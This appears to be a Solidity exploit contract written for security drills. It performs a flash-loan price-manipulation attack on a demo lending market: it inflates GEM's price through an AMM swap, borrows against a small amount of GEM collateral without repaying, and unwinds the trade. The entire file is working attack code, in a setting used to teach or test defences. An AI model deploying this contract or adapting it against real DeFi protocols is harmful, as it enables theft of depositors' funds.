// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {LendingMarket} from "../../contracts/demo/LendingMarket.sol";
import {IUniswapV2Router} from "../../contracts/demo/interfaces/IUniswapV2.sol";

/// @title FlashLoanAttacker: robs the demo's lending market of some 400,000 dollars a call, for drills
/// @notice One transaction: borrow dollars for its length, buy GEM until the market thinks GEM precious, borrow
/// against a little GEM at that price and never repay, sell the bought GEM, return the flash loan.
contract FlashLoanAttacker is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    /// @notice The deployer, who attacks and collects.
    address public immutable owner;
    IERC3156FlashLender public immutable lender;
    IUniswapV2Router public immutable router;
    LendingMarket public immutable market;
    IERC20 public immutable dollar;
    IERC20 public immutable gem;

    error NotOwner(address caller);
    error LoanNotOurs(address lender, address initiator);

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    constructor(IERC3156FlashLender lender_, IUniswapV2Router router_, LendingMarket market_) {
        owner = msg.sender;
        lender = lender_;
        router = router_;
        market = market_;
        dollar = market_.dollar();
        gem = market_.gem();
    }

    /// @param loan dollars to flash-borrow; they decide how far the price moves
    /// @param collateralGems GEM of this contract to leave in the market as collateral
    function attack(uint256 loan, uint256 collateralGems) external onlyOwner {
        lender.flashLoan(this, address(dollar), loan, abi.encode(collateralGems));
    }

    /// @notice Pays out all this contract has of `token`.
    function collect(address token) external onlyOwner {
        IERC20(token).safeTransfer(owner, IERC20(token).balanceOf(address(this)));
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(address initiator, address, uint256 loan, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(lender) || initiator != address(this)) {
            revert LoanNotOurs(msg.sender, initiator);
        }
        uint256 bought = _swap(dollar, gem, loan);
        _rob(abi.decode(data, (uint256)));
        _swap(gem, dollar, bought);
        dollar.forceApprove(address(lender), loan + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function _rob(uint256 collateralGems) private {
        gem.forceApprove(address(market), collateralGems);
        market.addCollateral(collateralGems);
        uint256 allowed = market.borrowLimit(address(this)) - market.debt(address(this));
        market.borrow(Math.min(allowed, market.cash()));
    }

    function _swap(IERC20 from, IERC20 to, uint256 amount) private returns (uint256) {
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(from), address(to));
        from.forceApprove(address(router), amount);
        return router.swapExactTokensForTokens(amount, 0, path, address(this), block.timestamp)[1];
    }
}
